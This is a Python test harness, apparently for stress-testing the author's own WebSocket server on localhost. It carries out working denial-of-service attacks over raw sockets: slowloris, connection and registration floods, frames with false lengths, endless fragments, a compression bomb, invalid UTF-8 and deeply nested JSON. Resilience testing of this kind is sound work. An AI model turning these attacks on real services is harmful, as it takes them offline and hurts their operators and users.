"""Attacks on a server's port from one process. Each attack runs until it is cancelled, and counts.

They use raw sockets, because a library would refuse to send most of this.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import ssl
import struct
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

UPGRADE = (
    "GET /ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n{more}\r\n"
)
DEEP = "[" * 30_000
TEXT, BINARY, CONTINUATION, PING = 1, 2, 0, 9


@dataclass
class Target:
    """Where a server listens, and from which of our addresses it is attacked."""

    host: str
    port: int
    source: str
    tls: ssl.SSLContext | None = None


def frame(opcode: int, payload: bytes, *, fin: bool = True, rsv1: bool = False, length: int | None = None) -> bytes:
    """One masked WebSocket frame; `length` lies about it."""
    first = opcode | (0x80 if fin else 0) | (0x40 if rsv1 else 0)
    size = len(payload) if length is None else length
    if size < 126:
        head = struct.pack("!BB", first, 0x80 | size)
    elif size < 65536:
        head = struct.pack("!BBH", first, 0x80 | 126, size)
    else:
        head = struct.pack("!BBQ", first, 0x80 | 127, size)
    return head + b"\0\0\0\0" + payload  # a mask of zeros leaves it as it is


class Wire:
    """One raw connection."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    @classmethod
    async def open(cls, target: Target) -> Wire:
        return cls(
            *await asyncio.open_connection(target.host, target.port, ssl=target.tls, local_addr=(target.source, 0))
        )

    @classmethod
    async def upgraded(cls, target: Target, more: str = "") -> Wire:
        """With the WebSocket handshake behind it."""
        wire = await cls.open(target)
        await wire.write(UPGRADE.format(host=f"{target.host}:{target.port}", more=more).encode())
        await wire.reader.readuntil(b"\r\n\r\n")
        return wire

    async def write(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.writer.transport.abort()


Attack = Callable[[Target, Callable[[], None]], Awaitable[None]]


async def _many(count: int, one: Callable[[], Awaitable[None]]) -> None:
    """So many at a time, again and again, whatever comes of each."""

    async def again() -> None:
        while True:
            with contextlib.suppress(OSError, EOFError, ssl.SSLError):
                await one()
            await asyncio.sleep(0)

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(again())


async def slowloris(target: Target, done: Callable[[], None]) -> None:
    """Four hundred requests, a byte of each now and then."""

    async def one() -> None:
        wire = await Wire.open(target)
        done()
        try:
            for byte in b"GET / HTTP/1.1\r\nX: " + b"a" * 1000:
                await wire.write(bytes([byte]))
                await asyncio.sleep(0.2)
        finally:
            wire.close()

    await _many(400, one)


async def connection_flood(target: Target, done: Callable[[], None]) -> None:
    """Connections as fast as they come up, each dropped at once."""

    async def one() -> None:
        (await Wire.open(target)).close()
        done()

    await _many(30, one)


async def websocket_flood(target: Target, done: Callable[[], None]) -> None:
    """WebSockets that are opened and register with wrong keys."""

    async def one() -> None:
        wire = await Wire.upgraded(target)
        done()
        try:
            guess = {"type": "register", "client_id": "ctrl-x", "key": os.urandom(8).hex()}
            await wire.write(frame(TEXT, json.dumps(guess).encode()))
            await wire.reader.read(4096)
        finally:
            wire.close()

    await _many(20, one)


def _talk(payload: Callable[[int], bytes], more: str = "", at_once: int = 8) -> Attack:
    """WebSockets over which the same is said again and again, as fast as it goes."""

    async def attack(target: Target, done: Callable[[], None]) -> None:
        async def one() -> None:
            wire = await Wire.upgraded(target, more)
            try:
                for n in range(1_000_000):
                    await wire.write(payload(n))
                    done()
                    await asyncio.sleep(0)
            finally:
                wire.close()

        await _many(at_once, one)

    return attack


def _bomb() -> bytes:
    """Forty megabytes of zeros as 40 kB."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join(squeeze.compress(b"\0" * 1_000_000) for _ in range(40)) + squeeze.flush(zlib.Z_SYNC_FLUSH)
    return data[:-4]


def _large_json(n: int) -> bytes:
    meta = {f"k{k}": "v" * 200 for k in range(250)}
    return frame(TEXT, json.dumps({"type": "register", "client_id": f"ctrl-{n}", "meta": meta}).encode())


_BOMB = frame(TEXT, _bomb(), rsv1=True)
ATTACKS: dict[str, Attack] = {
    "slowloris": slowloris,
    "connection flood": connection_flood,
    "websocket flood": websocket_flood,
    "small frames": _talk(lambda n: frame(TEXT, b'{"type":"heartbeat"}') * 50),
    "oversized frames": _talk(lambda n: frame(TEXT, b"x" * 100_000)),
    "frames that lie": _talk(lambda n: frame(TEXT, b"x" * 1000, length=2**62)),
    "fragments": _talk(
        lambda n: frame(TEXT if n == 0 else CONTINUATION, b"a", fin=False) + frame(PING, b"") * 5, at_once=8
    ),
    "compression bombs": _talk(lambda n: _BOMB, "Sec-WebSocket-Extensions: permessage-deflate\r\n"),
    "invalid UTF-8": _talk(lambda n: frame(TEXT, b'{"type":"\xff\xfe\xed\xa0\x80"}')),
    "deep JSON": _talk(lambda n: frame(TEXT, DEEP.encode())),
    "large JSON": _talk(_large_json),
    "binary": _talk(lambda n: frame(BINARY, os.urandom(1000))),
}


async def _main(name: str, target: Target, seconds: float | None) -> int:
    """How many deeds there were in so many seconds, or until standard input ends."""
    count = 0

    def done() -> None:
        nonlocal count
        count += 1

    over = asyncio.Event()
    if seconds is None:
        asyncio.get_running_loop().add_reader(0, over.set)
    attack, end = asyncio.ensure_future(ATTACKS[name](target, done)), asyncio.ensure_future(over.wait())
    await asyncio.wait({attack, end}, timeout=seconds, return_when=asyncio.FIRST_COMPLETED)
    if attack.done():
        attack.result()
    for each in (attack, end):
        each.cancel()
    await asyncio.gather(attack, end, return_exceptions=True)
    return count


if __name__ == "__main__":
    import sys

    print("attacking", flush=True)
    name, port, source, seconds = sys.argv[1:]
    limit = None if seconds == "-" else float(seconds)
    print(asyncio.run(_main(name, Target("127.0.0.1", int(port), source), limit)), flush=True)
